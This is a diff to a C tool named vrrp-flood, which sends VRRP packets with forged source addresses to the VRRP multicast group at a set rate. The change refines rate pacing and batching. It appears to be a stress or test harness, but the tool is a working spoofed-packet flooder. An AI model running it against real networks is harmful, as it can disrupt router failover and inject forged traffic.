@@ -8,7 +8,8 @@
  *   cc -O2 -o vrrp-flood vrrp-flood.c
  *   vrrp-flood IFNAME SECONDS RATE AVOID_NET TEMPLATE...
  *
- *   RATE       packets a second, 0 for as fast as the machine goes
+ *   RATE       packets a second, 0 for as fast as the machine goes (in batches of 64; a rate
+ *              under 6,400 a second in smaller ones, down to single packets)
  *   AVOID_NET  a.b.c.0: no forged source falls in this /24 (the routers' own subnet)
  *   TEMPLATE   TTL:MODE:HEX  one IPv4 datagram's fields: its TTL, and the VRRP message (or
  *              AH + VRRP when the hex starts with a 51 marker, see below) in hex. MODE is
@@ -195,6 +196,9 @@ int main(int argc, char **argv) {
   to.sll_halen = 6;
   memcpy(to.sll_addr, (uint8_t[]){0x01, 0x00, 0x5e, 0x00, 0x00, 0x12}, 6);
 
+  /* a slow rate (a trickle of a few packets a second) goes out one by one, not in bursts */
+  int batch = rate > 0 && rate < 100.0 * BATCH ? (int)(rate / 100) : BATCH;
+  if (batch < 1) batch = 1;
   unsigned long long sent = 0;
   int next = 0;
   double start = now_seconds();
@@ -202,11 +206,13 @@ int main(int argc, char **argv) {
     double elapsed = now_seconds() - start;
     if (elapsed >= seconds) break;
     if (rate > 0 && sent >= rate * elapsed) {
-      struct timespec pause = {0, 200000};
+      double wait = (double)sent / rate - elapsed; /* until the next packet is due */
+      if (wait > 0.1) wait = 0.1;
+      struct timespec pause = {0, (long)(wait * 1e9) + 1000};
       nanosleep(&pause, NULL);
       continue;
     }
-    for (int i = 0; i < BATCH; i++) {
+    for (int i = 0; i < batch; i++) {
       iov[i].iov_base = frames[i];
       iov[i].iov_len = build(frames[i], mac, &templates[next], avoid);
       next = (next + 1) % count;
@@ -216,7 +222,7 @@ int main(int argc, char **argv) {
       msgs[i].msg_hdr.msg_iov = &iov[i];
       msgs[i].msg_hdr.msg_iovlen = 1;
     }
-    int n = sendmmsg(fd, msgs, BATCH, 0);
+    int n = sendmmsg(fd, msgs, (unsigned)batch, 0);
     if (n > 0) sent += (unsigned long long)n;
   }
   printf("{\"sent\":%llu,\"seconds\":%.3f}\n", sent, now_seconds() - start);
